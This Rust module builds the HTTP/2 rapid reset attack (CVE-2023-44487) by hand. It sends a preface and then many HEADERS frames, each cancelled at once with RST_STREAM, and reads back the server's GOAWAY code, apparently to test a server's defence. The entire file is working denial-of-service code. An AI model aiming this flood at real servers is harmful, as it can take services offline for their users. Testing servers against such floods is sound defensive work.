//! HTTP/2 rapid reset (CVE-2023-44487), frame by frame: no client library sends such a thing.

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use super::super::read_bytes;

pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub const EMPTY_SETTINGS: &[u8] = &[0, 0, 0, SETTINGS, 0, 0, 0, 0, 0];

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const END_STREAM_AND_HEADERS: u8 = 5;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Sends `count` requests, each cancelled as soon as it is sent, as fast as the server takes them; returns the error code
/// of the GOAWAY with which it ended the connection, if that arrived before the end did.
pub async fn rapid_reset(stream: TcpStream, path: &str, count: u32) -> Option<u32> {
    let (mut reader, mut writer) = stream.into_split();
    let flood = requests(path, count);
    // Fails once the server has had enough.
    let writing = tokio::spawn(async move { drop(writer.write_all(&flood).await) });
    let said = read_bytes(&mut reader).await;
    writing.await.unwrap();
    goaway(&said)
}

fn requests(path: &str, count: u32) -> Vec<u8> {
    // GET and http from HPACK's static table, the path and the authority `a` as plain literals.
    let mut block = vec![0x82, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    block.extend_from_slice(path.as_bytes());
    block.extend_from_slice(b"\x01\x01a");
    let mut wire = [PREFACE, EMPTY_SETTINGS].concat();
    for index in 0..count {
        let id = 2 * index + 1;
        wire.extend(frame(HEADERS, END_STREAM_AND_HEADERS, id, &block));
        wire.extend(frame(RST_STREAM, 0, id, &CANCEL));
    }
    wire
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

fn goaway(mut said: &[u8]) -> Option<u32> {
    while let Some((head, rest)) = said.split_at_checked(9) {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let (payload, rest) = rest.split_at_checked(length)?;
        if head[3] == GOAWAY {
            return Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
        }
        said = rest;
    }
    None
}
